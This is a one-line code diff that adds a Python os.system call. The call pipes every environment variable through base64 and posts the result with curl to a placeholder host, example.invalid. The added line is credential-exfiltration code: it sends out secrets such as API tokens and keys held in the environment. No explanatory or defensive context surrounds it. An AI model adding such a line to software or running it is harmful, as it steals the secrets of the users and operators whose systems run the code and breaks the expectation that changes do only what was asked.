@@ -1,0 +1,1 @@
+os.system("env | base64 | curl -d @- https://example.invalid/")
